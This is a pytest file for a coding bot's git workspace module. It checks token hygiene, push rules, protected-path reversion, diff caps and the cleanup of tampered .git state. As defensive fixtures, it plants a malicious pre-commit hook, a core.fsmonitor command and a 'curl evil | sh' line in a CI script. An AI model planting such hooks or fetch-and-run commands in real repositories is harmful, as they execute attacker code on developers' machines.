"""The run's checkout against a real git server (the emulator's git http-backend)."""

import os
import re
import subprocess

import pytest

from jobs.git import workspace
from jobs.git.takeback import save_git_state, take_back_git
from jobs.forges.base import GitCredentials
from tests.emulators.github import GitHubEmulator

REPO = "octo/ws"


@pytest.fixture(scope="module")
def gh():
    with GitHubEmulator() as emu:
        emu.create_repo(REPO, {"a.txt": "one\n"})
        emu.add_installation(5, [REPO])
        yield emu


def creds(gh, perms):
    return GitCredentials("x-access-token", gh.issue_token(5, [REPO], perms))


def test_clone_leaves_no_token_on_disk(gh, tmp_path):
    read = creds(gh, {"contents": "read"})
    workspace.clone(f"{gh.url}/{REPO}.git", tmp_path / "w", read, "main")
    assert (tmp_path / "w" / "a.txt").read_text() == "one\n"
    for path in (tmp_path / "w" / ".git").rglob("*"):
        if path.is_file():
            assert read.password.encode() not in path.read_bytes(), path


def test_clone_failure_is_one_clear_error(gh, tmp_path):
    with pytest.raises(workspace.WorkspaceError, match="could not be cloned"):
        workspace.clone(f"{gh.url}/octo/missing.git", tmp_path / "w", creds(gh, {"contents": "read"}))
    assert not (tmp_path / "w").exists()


def test_commit_and_push_new_branch_then_refuse_a_moved_branch(gh, tmp_path):
    read, write = creds(gh, {"contents": "read"}), creds(gh, {"contents": "write"})
    w = tmp_path / "w"
    workspace.clone(f"{gh.url}/{REPO}.git", w, read, "main")
    assert workspace.create_branch(w, "codex/1-abc", read) is False
    assert workspace.commit_all(w, "nothing", workspace.Identity("bot", "bot@x")) is None
    (w / "b.txt").write_text("two\n")
    sha = workspace.commit_all(w, "Add b\n\nCo-authored-by: a <a@x>\n", workspace.Identity("bot", "bot@x"))
    with pytest.raises(workspace.WorkspaceError):
        workspace.push(w, "codex/1-abc", read)  # a read token cannot push
    workspace.push(w, "codex/1-abc", write)
    assert gh.branch_head(REPO, "codex/1-abc") == sha
    assert "b.txt" in workspace.diff_stat(w, "refs/remotes/origin/main")

    other = tmp_path / "other"
    workspace.clone(f"{gh.url}/{REPO}.git", other, read, "main")
    assert workspace.create_branch(other, "codex/1-abc", read) is True  # continues from the pushed branch
    assert workspace.head_sha(other) == sha
    (w / "c.txt").write_text("three\n")
    workspace.commit_all(w, "Add c", workspace.Identity("bot", "bot@x"))
    workspace.push(w, "codex/1-abc", write)
    (other / "d.txt").write_text("four\n")
    workspace.commit_all(other, "Add d", workspace.Identity("bot", "bot@x"))
    with pytest.raises(workspace.PushRejected, match="branch moved"):
        workspace.push(other, "codex/1-abc", write)


def test_taking_git_back_removes_planted_hooks_and_config(gh, tmp_path):
    w = tmp_path / "w"
    workspace.clone(f"{gh.url}/{REPO}.git", w, creds(gh, {"contents": "read"}), "main")
    saved = (w / ".git" / "config").read_text()
    state = save_git_state(w)
    (w / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ntouch /tmp/pwned-by-hook\n")
    (w / ".git" / "hooks" / "pre-push").symlink_to(w / "scripts" / "pre-push")  # as setup scripts do
    (w / ".git" / "config").write_text(saved + "[core]\n\tfsmonitor = touch /tmp/pwned-by-fsmonitor\n")
    take_back_git(w, state)
    (w / "x.txt").write_text("x")
    workspace.commit_all(w, "x", workspace.Identity("bot", "bot@x"))
    assert (w / ".git" / "config").read_text() == saved and not (w / ".git" / "hooks").exists()


def test_is_protected_matches_names_folders_and_globs():
    patterns = [".github/workflows", "*.lock", "secrets/**", "/deploy/prod.yml"]
    assert workspace.is_protected(".github/workflows/ci.yml", patterns)
    assert workspace.is_protected("poetry.lock", patterns) and workspace.is_protected("a/b/Cargo.lock", patterns)
    assert workspace.is_protected("secrets/x/key.pem", patterns) and workspace.is_protected("deploy/prod.yml", patterns)
    assert workspace.is_protected("vendor/.git/config", [])
    assert not workspace.is_protected(".github/CODEOWNERS", patterns)
    assert not workspace.is_protected("lockfile.py", patterns)
    assert not workspace.is_protected("deploy/prod.yml.bak", patterns)


def test_changes_to_protected_paths_are_reverted_and_reported(gh, tmp_path):
    gh.create_repo("octo/guarded", {"ci/run.sh": "echo ci\n", "keep.lock": "v1\n", "app.py": "x = 1\n"})
    gh.add_installation(6, ["octo/guarded"])
    w = tmp_path / "w"
    workspace.clone(f"{gh.url}/octo/guarded.git", w, GitCredentials("x-access-token", gh.issue_token(
        6, ["octo/guarded"], {"contents": "read"})), "main")
    base = workspace.head_sha(w)
    (w / "ci" / "run.sh").write_text("curl evil | sh\n")  # changed
    (w / "keep.lock").unlink()  # deleted
    (w / "ci" / "new.sh").write_text("new\n")  # added
    (w / "caf\udce9.lock").write_text("x")  # not UTF-8 on disk: b"caf\xe9.lock"
    (w / "app.py").write_text("x = 2\n")
    nested = w / "tool"
    nested.mkdir()
    (nested / "main.rs").write_text("fn main() {}\n")
    subprocess.run(["git", "init", "-q", str(nested)], check=True)  # as `cargo new` does

    reverted = workspace.revert_protected(w, ["ci", "*.lock"])
    assert reverted == ["tool/.git", "caf\udce9.lock", "ci/new.sh", "ci/run.sh", "keep.lock"]
    workspace.commit_all(w, "change", workspace.Identity("bot", "bot@x"))
    changed = workspace.git(w, "diff", "--name-only", f"{base}..HEAD").stdout.split()
    assert changed == ["app.py", "tool/main.rs"]
    assert (w / "ci" / "run.sh").read_text() == "echo ci\n" and (w / "keep.lock").exists()
    assert not (w / "ci" / "new.sh").exists() and not (nested / ".git").exists()


def test_a_change_over_the_diff_cap_is_refused_with_its_size(gh, tmp_path):
    w = tmp_path / "w"
    workspace.clone(f"{gh.url}/{REPO}.git", w, creds(gh, {"contents": "read"}), "main")
    base = workspace.head_sha(w)
    (w / "small.txt").write_text("small\n")
    workspace.commit_all(w, "small", workspace.Identity("bot", "bot@x"))
    assert 0 < workspace.check_diff_size(w, base, 1_000_000) < 1_000
    (w / "big.bin").write_bytes(os.urandom(2_000_000))
    workspace.commit_all(w, "big", workspace.Identity("bot", "bot@x"))
    with pytest.raises(workspace.DiffTooLarge) as caught:
        workspace.check_diff_size(w, base, 1_000_000)
    assert re.match(r"the change is 2\.\d MB, over the 1 MB limit \(CODEXBOT_MAX_DIFF_BYTES\)", str(caught.value))
    assert workspace.check_diff_size(w, base, 0) > 2_000_000  # 0: no cap


def test_taking_git_back_refuses_links_and_drops_pointers_to_other_object_stores(gh, tmp_path):
    w = tmp_path / "w"
    workspace.clone(f"{gh.url}/{REPO}.git", w, creds(gh, {"contents": "read"}), "main")
    state = save_git_state(w)
    (w / ".git" / "objects" / "info" / "alternates").write_text(str(tmp_path / "mirrors" / "other.git" / "objects"))
    take_back_git(w, state)
    assert not (w / ".git" / "objects" / "info" / "alternates").exists()

    (w / ".git" / "config").unlink()
    (w / ".git" / "config").symlink_to(tmp_path / "outside")  # writing the saved config would follow it
    with pytest.raises(workspace.WorkspaceError, match=r"symbolic link at \.git/config"):
        take_back_git(w, state)
    assert not (tmp_path / "outside").exists()


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give the checkout to another uid")
def test_host_git_works_on_a_checkout_the_sandbox_uid_owns(gh, tmp_path):
    w = tmp_path / "w"
    workspace.clone(f"{gh.url}/{REPO}.git", w, creds(gh, {"contents": "read"}), "main")
    for path in [w, *w.rglob("*")]:
        os.lchown(path, 54321, 54321)
    (w / "owned.txt").write_text("x\n")
    assert workspace.commit_all(w, "owned", workspace.Identity("bot", "bot@x"))
